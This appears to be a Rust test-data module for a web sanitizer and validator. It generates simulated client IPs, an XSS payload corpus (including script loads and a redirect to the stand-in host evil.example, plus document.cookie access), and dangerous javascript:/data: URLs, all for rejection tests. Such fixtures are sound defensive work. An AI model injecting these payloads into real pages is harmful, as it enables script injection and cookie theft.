// SPDX-FileCopyrightText: 2026 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Test data generators for attack simulation.

/// Generate a pool of client identifiers (dotted-quad strings, the shape
/// the guard resolves from proxy headers).
pub fn generate_identifiers(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| {
            // Use 10.x.x.x private range
            let a = (i >> 16) & 0xFF;
            let b = (i >> 8) & 0xFF;
            let c = i & 0xFF;
            format!("10.{a}.{b}.{c}")
        })
        .collect()
}

/// XSS payload corpus. Every entry should be neutralized by the
/// sanitizer: no `<script`, `javascript:`, or `on*=` survivors.
pub fn generate_xss_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<SCRIPT>document.location='https://evil.example'</SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"fetch('/admin')\">",
        "<svg onload=alert(1)>",
        "<body onload='alert(1)'>",
        "javascript:alert(document.cookie)",
        "JaVaScRiPt:alert(1)",
        "<a href=\"javascript:void(0)\" onclick=\"steal()\">x</a>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
        "<div style=\"x\" onmouseover=alert(1)>hover</div>",
    ]
}

/// Benign payloads that must survive sanitization unharmed.
pub fn generate_clean_payloads() -> Vec<&'static str> {
    vec![
        "Great post, thanks for sharing!",
        "How does the cache layer handle eviction?",
        "I ran into the same issue on 1.74",
        "See the docs for details",
        "+1 would love a follow-up article",
    ]
}

/// Malformed email variations the validators must reject.
pub fn generate_malformed_emails() -> Vec<&'static str> {
    vec![
        "",
        "   ",
        "not-an-email",
        "missing-domain@",
        "@missing-local.com",
        "no-tld@domain",
        "two@at@signs.com",
        "spaces in@local.com",
    ]
}

/// Malformed or dangerous URL variations the validators must reject.
pub fn generate_malformed_urls() -> Vec<&'static str> {
    vec![
        "",
        "   ",
        "not-a-url",
        "ftp://wrong-scheme.com/",
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "data:text/html,<script>",
        "vbscript:msgbox(1)",
        "https://",
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_generate_identifiers() {
        let identifiers = generate_identifiers(256);
        assert_eq!(identifiers.len(), 256);
        // All should be unique
        let unique: std::collections::HashSet<_> = identifiers.iter().collect();
        assert_eq!(unique.len(), 256);
    }

    #[test]
    fn test_payload_corpora_are_nonempty() {
        assert!(!generate_xss_payloads().is_empty());
        assert!(!generate_clean_payloads().is_empty());
    }
}
